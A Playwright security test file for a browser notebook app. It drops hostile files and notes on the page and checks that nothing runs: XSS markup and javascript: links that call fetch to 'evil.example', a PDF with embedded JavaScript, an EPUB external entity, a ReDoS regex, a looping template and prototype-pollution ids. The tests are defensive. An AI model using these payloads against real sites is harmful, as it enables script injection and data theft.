/** @file Attacks on the built page: what is dropped on it, imported into it, taken away under it, or opened from it. */
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { makeEpub, utf8, xhtml } from "../src/ingest/testing/archives.ts";
import { makePdf, typeset } from "../src/ingest/testing/pdf.ts";
import type { AttackClass } from "../src/lib/testing/attackLog.ts";
import { newCell, newNotebook } from "../src/notebook/kinds.ts";
import { cellOf, importNotebook } from "./support/app.ts";
import { attack } from "./support/attack.ts";
import { expect, test } from "./support/test.ts";
import { tinyModel } from "./support/tinyModel.ts";

test.describe.configure({ mode: "serial", timeout: 240_000 });
// Nothing but the page's own policy refuses what is tried: the guard of every test sees what gets through.
test.use({ actionTimeout: 20_000, allowedConsole: /Content.Security.Policy|Refused to|ERR_BLOCKED/i });

const NOW = "2026-01-01T00:00:00.000Z";
const WAIT_MS = 60_000;
const SEEN = "Mary lives in Lisbon.";
const STEAL = "globalThis.stolen=1;fetch('https://evil.example/')";
const KINDS_OF_MARKUP = [
  `<script>${STEAL}</script>`,
  `<img src=x onerror="${STEAL}">`,
  `<svg onload="${STEAL}"></svg>`,
  `<iframe src="javascript:${STEAL}"></iframe>`,
  `<a href="javascript:${STEAL}">x</a>`,
  `<img src="https://evil.example/a.png">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<style>@import url(https://evil.example/a.css)</style>`,
  `<object data="https://evil.example/a"></object>`,
  `<video src="https://evil.example/a.mp4" autoplay></video>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus onfocus="${STEAL}"></form>`,
  `<base href="https://evil.example/">`,
] as const;

/** Whether anything ran that was brought in. */
const stolen = (page: Page): Promise<boolean> => page.evaluate(() => "stolen" in globalThis);

async function opened(page: Page, cells: Parameters<typeof newNotebook>[2], title: string): Promise<void> {
  await page.goto("/");
  await page.locator("[data-cell]").first().waitFor();
  await importNotebook(page, newNotebook(`attack-${title.replace(/\W/g, "-")}`, title, cells, NOW));
}

const buffer = (bytes: Uint8Array): Buffer => Buffer.from(bytes);
const DROPPED: readonly {
  readonly kind: AttackClass;
  readonly name: string;
  readonly fault?: string;
  readonly content: () => Promise<Uint8Array> | Uint8Array;
  readonly shows: RegExp;
}[] = [
  { kind: "text files", name: "empty.txt", content: () => utf8(""), shows: /is empty \(0 bytes\)/ },
  {
    kind: "text files",
    name: "line.txt",
    content: () => utf8("the lamp stands by the door ".repeat(180_000)),
    shows: /5,040,000 characters/,
  },
  { kind: "text files", name: "nul.txt", content: () => utf8("a\0b"), shows: /is not plain text/ },
  {
    kind: "text files",
    name: "comments.txt",
    fault: "the library worker never answered again",
    content: () => utf8(`${"<!---->".repeat(4000)}x`),
    shows: /28,001 characters/,
  },
  {
    kind: "web pages",
    name: "scripts.html",
    content: () => utf8(`<html><body onload="${STEAL}">${KINDS_OF_MARKUP.join("")}<p>${SEEN}`),
    shows: /scripts\.html/,
  },
  {
    kind: "Markdown",
    name: "scripts.md",
    content: () => utf8(`${KINDS_OF_MARKUP.join("\n\n")}\n\n![x](https://evil.example/b.png) ${SEEN}`),
    shows: /scripts\.md/,
  },
  {
    kind: "Markdown",
    name: "stars.md",
    fault: "the library worker was busy for minutes",
    content: () => utf8(`${"*a_ ".repeat(50_000)}\n\n${SEEN}`),
    shows: /too long or too dense/,
  },
  {
    kind: "books and documents",
    name: "script.pdf",
    content: () =>
      utf8(
        new TextDecoder()
          .decode(makePdf([typeset([SEEN])]))
          .replace(
            "/Type /Catalog",
            `/Type /Catalog /OpenAction << /S /JavaScript /JS (${STEAL.replace(/[()]/g, "\\$&")}) >>`,
          ),
      ),
    shows: /pdf, 1 page/,
  },
  {
    kind: "books and documents",
    name: "entities.epub",
    content: () =>
      makeEpub({
        chapters: {
          "1.xhtml": `<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/x">]><html><p>&x; ${SEEN}</p></html>`,
          "2.xhtml": xhtml(KINDS_OF_MARKUP.slice(0, 5).join("")),
        },
      }),
    shows: /epub/,
  },
  {
    kind: "books and documents",
    name: "half.docx",
    content: async () => (await makeEpub({ chapters: { "1.xhtml": xhtml("<p>x</p>") } })).subarray(0, 200),
    shows: /is not a zip archive/,
  },
];

test("files made to harm, dropped one after another on one page @thorough", async ({ page, browser }) => {
  await opened(page, [newCell("source", "s")], "Dropped");
  const source = cellOf(page, "source");
  for (const { kind, name, fault, content, shows } of DROPPED) {
    const bytes = buffer(await content());
    await attack(browser, { kind, name: `dropped: ${name}`, ...(fault ? { fault } : {}) }, async () => {
      await source
        .locator("input[type=file]")
        .first()
        .setInputFiles({ name, mimeType: "application/octet-stream", buffer: bytes });
      await expect(source.getByRole("listitem").filter({ hasText: shows }).first()).toBeVisible({
        timeout: WAIT_MS,
      });
      expect(await stolen(page), name).toBe(false);
    });
  }
});

test("notes with every kind of script and foreign address, on the page and in its report", async ({
  page,
  browser,
  context,
}) => {
  const notes = KINDS_OF_MARKUP.map((markup, i) =>
    newCell(
      "note",
      `n${i}`,
      { text: `${SEEN} ${i}\n\n${markup}\n\n![p](https://evil.example/p.png)` },
      markup,
    ),
  );
  const links = newCell("note", "links", {
    text: `[a](javascript:${STEAL}) [b](data:text/html,${STEAL}) <https://evil.example/> ![c](//evil.example/c.png)`,
  });
  const dense = newCell("note", "dense", { text: `${"*a_ ".repeat(10_000)}\n\n${SEEN} dense` });
  await attack(browser, { kind: "notebooks", name: "notes of scripts and addresses" }, async () => {
    await opened(page, [...notes, links], "</title><script>globalThis.stolen=1</script>");
    await expect(page.locator("[data-kind=note]").filter({ hasText: `${SEEN} 12` })).toBeVisible();
    expect(await stolen(page)).toBe(false);
    expect(
      await page.locator("[data-kind=note] :is(script, iframe, object, video, style, form, base)").count(),
    ).toBe(0);
    const addresses = await page
      .locator("[data-kind=note] a[href]")
      .evaluateAll((all) => all.map((a) => a.getAttribute("href") ?? ""));
    for (const address of addresses) expect(address).not.toMatch(/^(javascript|data):/i);
  });
  await attack(browser, { kind: "exports", name: "a report of such a notebook, opened" }, async () => {
    await page.locator("header button[aria-haspopup=menu]").first().click();
    const [download] = await Promise.all([
      page.waitForEvent("download", { timeout: WAIT_MS }),
      page.getByRole("menuitem", { name: /^Export as a page/ }).click(),
    ]);
    const html = await readFile(await download.path(), "utf8");
    const report = await context.newPage();
    await report.setContent(html);
    await expect(report.getByText(`${SEEN} 12`)).toBeVisible();
    expect(await stolen(report)).toBe(false);
    expect(await report.locator("script, iframe, object, img, link, a[href^='http']").count()).toBe(0);
    await report.close();
  });
  await attack(
    browser,
    { kind: "notebooks", name: "a note that would take minutes to draw", fault: "the page stood still" },
    async () => {
      await importNotebook(page, newNotebook("attack-dense", "Dense", [dense], NOW));
      await expect(page.getByText(`${SEEN} dense`)).toBeVisible();
    },
  );
  for (const id of ["constructor", "__proto__"])
    await attack(
      browser,
      { kind: "notebooks", name: `a notebook with a cell called ${id}`, fault: "the page ended in an error" },
      async () => {
        const evil = newNotebook("attack-id", "Evil", [newCell("source", id)], NOW);
        await page.getByLabel("Notebook file").setInputFiles({
          name: "evil.json",
          mimeType: "application/json",
          buffer: Buffer.from(JSON.stringify(evil)),
        });
        await expect(page.getByText(new RegExp(`Invalid id "${id}"`)).first()).toBeVisible();
        await expect(page.getByRole("textbox", { name: "Title of the notebook" })).toHaveValue("Dense");
      },
    );
});

/** The smallest model with a tokenizer or a template of one's own. */
function folderWith(files: Readonly<Record<string, unknown>>) {
  const plain = Object.entries(tinyModel()).map(
    ([name, base64]) => [name, Buffer.from(base64, "base64")] as const,
  );
  const made = Object.entries(files).map(
    ([name, json]) => [name, Buffer.from(JSON.stringify(json))] as const,
  );
  return [...new Map([...plain, ...made])].map(([name, content]) => ({
    name,
    mimeType: "application/octet-stream",
    buffer: content,
  }));
}

test("model folders whose sizes, expression and template never end: the page goes on, and says why @thorough", async ({
  page,
  browser,
}) => {
  await opened(page, [newCell("model", "m")], "Models");
  const model = cellOf(page, "model");
  await model.getByRole("radio", { name: "Your own files" }).click();
  const drop = async (files: Readonly<Record<string, unknown>>): Promise<void> => {
    await model.locator("input[type=file]").first().setInputFiles(folderWith(files));
  };
  const open = () => model.getByRole("button", { name: /^(Open model|Run again)$/ }).click();
  const { config, tokenizer } = plainModel();

  await attack(
    browser,
    { kind: "model folders", name: "dropped: ten million layers", fault: "the engine never answered again" },
    async () => {
      await drop({ "config.json": { ...config, num_hidden_layers: 1e7 } });
      await expect(model.getByRole("alert").filter({ hasText: "num_hidden_layers is 10000000" })).toBeVisible(
        {
          timeout: WAIT_MS,
        },
      );
    },
  );
  await attack(
    browser,
    {
      kind: "tokenizers and templates",
      name: "dropped: a template that loops for ever",
      fault: "the engine never answered again",
    },
    async () => {
      const loop = "{% for a in range(9999) %}{% for b in range(9999) %}x{% endfor %}{% endfor %}";
      await drop({ "tokenizer_config.json": { chat_template: loop } });
      await open();
      await expect(
        model.getByRole("alert").filter({ hasText: /did not come to an end in \d+ steps/ }),
      ).toBeVisible({
        timeout: WAIT_MS,
      });
    },
  );
  await attack(
    browser,
    {
      kind: "tokenizers and templates",
      name: "dropped: an expression of exponential time",
      fault: "the engine never answered again",
    },
    async () => {
      const evil = { type: "Split", pattern: { Regex: "(a|a)+b" }, behavior: "Isolated", invert: false };
      await drop({
        "tokenizer.json": { ...tokenizer, pre_tokenizer: evil },
        "tokenizer_config.json": { chat_template: "a".repeat(60) },
      });
      await open();
      const said = model.getByRole("alert").filter({ hasText: /did not come to an end within 8 s/ });
      await expect(said).toBeVisible({ timeout: WAIT_MS });
      // The page itself was never held up: the bundled model opens in the place of the other.
      await model.getByRole("radio", { name: /bundled|ships/i }).click();
      await said.getByRole("button", { name: /again/i }).click();
      await expect(model).toContainText("wasm, self-test pass", { timeout: 120_000 });
    },
  );
});

function plainModel() {
  const read = (base64: string): Record<string, unknown> =>
    JSON.parse(Buffer.from(base64, "base64").toString()) as Record<string, unknown>;
  const files = tinyModel();
  return { config: read(files["config.json"]), tokenizer: read(files["tokenizer.json"]) };
}

test("the database deleted under an open page: what is on it can be kept", async ({ page, browser }) => {
  await opened(page, [newCell("note", "n", { text: SEEN })], "Deleted under it");
  await expect(page.getByText("Saved in this browser")).toBeVisible();
  await attack(
    browser,
    {
      kind: "storage",
      name: "the database deleted under an open page",
      fault: "nothing could be saved before the page was loaded again, without what was on it",
    },
    async () => {
      await page.evaluate(
        () =>
          new Promise((resolve, reject) => {
            const deleting = indexedDB.deleteDatabase("palimpsest");
            deleting.onsuccess = resolve;
            deleting.onerror = reject;
          }),
      );
      await page.getByRole("textbox", { name: "Title of the notebook" }).fill("Deleted and kept");
      await page.getByRole("button", { name: "Keep mine as a copy" }).click();
      await expect(page.getByText("Saved in this browser")).toBeVisible();
      await page.reload();
      await expect(page.getByRole("textbox", { name: "Title of the notebook" })).toHaveValue(
        /Deleted and kept/,
      );
      await expect(page.locator("[data-kind=note]").filter({ hasText: SEEN })).toBeVisible();
    },
  );
});

test("a new service worker while the page is open waits for it @thorough", async ({ page, browser }) => {
  await opened(page, [newCell("source", "s")], "Updated");
  await attack(
    browser,
    {
      kind: "workers",
      name: "a new service worker while the page is open",
      fault: "it took over at once, and took away the files that the open page still had to fetch",
    },
    async () => {
      const states = await page.evaluate(async () => {
        const registration = await navigator.serviceWorker.register("/sw.js");
        await navigator.serviceWorker.ready;
        return { active: registration.active?.state };
      });
      expect(states.active).toMatch(/activat/);
      const file = join(process.env["PALIMPSEST_E2E_OUT"]!, "sw.js");
      const script = await readFile(file, "utf8");
      try {
        await writeFile(file, `${script}\n// newer`);
        const waits = await page.evaluate(async () => {
          const registration = await navigator.serviceWorker.ready;
          await registration.update();
          const found = registration.installing ?? registration.waiting;
          for (let i = 0; i < 200 && registration.installing; i++)
            await new Promise((resolve) => setTimeout(resolve, 100));
          await new Promise((resolve) => setTimeout(resolve, 500));
          return { found: found !== null, waiting: registration.waiting !== null };
        });
        expect(waits).toEqual({ found: true, waiting: true });
        // What the page has not fetched yet is still there.
        await cellOf(page, "source")
          .locator("input[type=file]")
          .first()
          .setInputFiles({
            name: "late.pdf",
            mimeType: "application/pdf",
            buffer: buffer(makePdf([typeset([SEEN])])),
          });
        await expect(cellOf(page, "source").getByText(/pdf, 1 page/)).toBeVisible({ timeout: WAIT_MS });
      } finally {
        await writeFile(file, script);
      }
    },
  );
});
